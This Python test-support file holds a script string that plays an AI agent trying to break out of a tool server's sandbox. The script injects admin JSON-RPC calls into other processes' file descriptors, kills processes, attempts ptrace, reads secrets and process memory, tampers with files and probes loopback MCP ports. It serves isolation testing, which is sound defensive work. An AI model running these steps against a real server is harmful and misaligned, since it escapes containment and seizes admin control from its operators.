"""What code an agent runs in a sandbox tries, to reach the tool server's admin tools: one script,
run through ``run_python`` (inside the tool server's own jail/container, as the agent's uid) and
through ``exec``. Every route prints one line ``ROUTE: result``; the tests read them."""

ATTACK = r'''
import ctypes, glob, json, os, signal, socket, sys

me = os.getpid()
out = []
def say(route, result):
    out.append(f"{route}: {result}")

def owner(pid):
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return -1
# Every process that is not the agent's own (the tool server, its wrappers, the jail's init).
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and owner(p) != os.getuid())
say("me", os.getuid())
say("pids", " ".join(f"{p}/{owner(p)}" for p in pids))

# 1. the server's stdin (and every other fd 0 we can see): JSON-RPC admin calls
calls = [
    {"jsonrpc": "2.0", "id": 9001, "method": "tools/call", "params": {"name": "_toolzoo_reset", "arguments": {"seed": 99}}},
    {"jsonrpc": "2.0", "id": 9002, "method": "tools/call",
     "params": {"name": "_toolzoo_restore", "arguments": {"state": {}}, "_meta": {"dev.toolzoo/admin-secret": "guess-guess-guess-guess"}}},
]
for pid in pids:
    for fd in sorted(set(glob.glob(f"/proc/{pid}/fd/*")) | {f"/proc/{pid}/fd/{n}" for n in (0, 1, 2)}):
        try:
            with open(fd, "w") as f:
                for c in calls:
                    f.write(json.dumps(c) + "\n")
            say("stdin", f"WROTE uid={owner(pid)} {fd}")
        except OSError as e:
            say("stdin", f"refused {fd} {e.errno}")

# 2. signals: stop and kill every process we can see
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in pids:
        try:
            os.kill(pid, sig)
            say("signal", f"SENT uid={owner(pid)} {sig.name} {pid}")
        except OSError as e:
            say("signal", f"refused {sig.name} {pid} {e.errno}")
try:
    os.kill(-1, signal.SIGKILL) if os.environ.get("ATTACK_KILL_ALL") else None
except OSError:
    pass

# 3. ptrace
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for pid in pids:
    r = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
    say("ptrace", f"ATTACHED uid={owner(pid)} {pid}" if r == 0 else f"refused {pid} {ctypes.get_errno()}")

# 4. the filesystem: the secret file, other processes' environment, command line, memory
for path in ["/run/toolzoo/admin-secret"] + [f"/proc/{p}/{n}" for p in pids for n in ("environ", "cmdline", "mem")]:
    try:
        with open(path, "rb") as f:
            data = f.read(4096)
        say("read", f"READ uid={owner(path.split('/')[2]) if path.startswith('/proc/') else -1} {path} " + data.replace(b"\0", b" ").decode(errors="replace").replace("\n", " "))
    except OSError as e:
        say("read", f"refused {path} {e.errno}")
for path in glob.glob("/run/toolzoo/*") + glob.glob("/tmp/*") + glob.glob(os.path.expanduser("~/.cache/toolzoo/**"), recursive=True):
    try:
        with open(path, "a") as f:
            f.write("tampered")
        say("write", f"WROTE {path}")
    except OSError as e:
        say("write", f"refused {path} {e.errno}")

# 5. loopback ports: every listening TCP port we can see gets an MCP admin call
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        for line in open(table).read().splitlines()[1:]:
            f = line.split()
            if f[3] == "0A":
                ports.add(int(f[1].split(":")[1], 16))
    except OSError:
        pass
say("ports", " ".join(map(str, sorted(ports))) or "none")
body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                   "params": {"name": "_toolzoo_snapshot", "arguments": {}}}).encode()
for port in sorted(ports):
    for host in ("127.0.0.1", "::1"):
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                      b"Accept: application/json, text/event-stream\r\nMCP-Protocol-Version: 2025-06-18\r\n"
                      b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
            reply = s.recv(65536).decode(errors="replace").replace("\r", " ").replace("\n", " ")
            s.close()
            say("port", f"{host}:{port} {reply[:600]}")
        except OSError as e:
            say("port", f"refused {host}:{port} {e.errno}")
print("\n".join(out))
'''
